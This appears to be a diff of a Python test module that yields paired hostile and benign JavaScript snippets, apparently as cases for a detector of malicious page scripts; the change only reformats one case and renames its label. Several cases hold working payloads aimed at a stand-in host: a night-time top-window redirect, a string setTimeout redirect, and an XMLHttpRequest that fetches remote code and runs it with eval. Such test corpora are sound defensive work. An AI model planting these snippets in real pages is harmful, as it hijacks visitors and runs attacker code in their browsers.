@@ -196,7 +196,9 @@ def _by_code() -> Iterator[Attack]:
         f"var h=new Date().getHours();if(h>=20||h<8){{top.location.href='{BAD}/n'}}",
         "var h=new Date().getHours();if(h>=20||h<8){document.body.className='night'}",
     )
-    yield _run("timer of text", f"setTimeout(\"location='{BAD}/t'\",1500)", 'setTimeout("showTime()",1000)')
+    yield _run(
+        "timer that is given a text", f"setTimeout(\"location='{BAD}/t'\",1500)", 'setTimeout("showTime()",1000)'
+    )
     yield _run(
         "asked for and run",
         f"var x=new XMLHttpRequest();x.open('GET','{BAD}/p');x.onload=function(){{(0,eval)(x.responseText)}};x.send()",
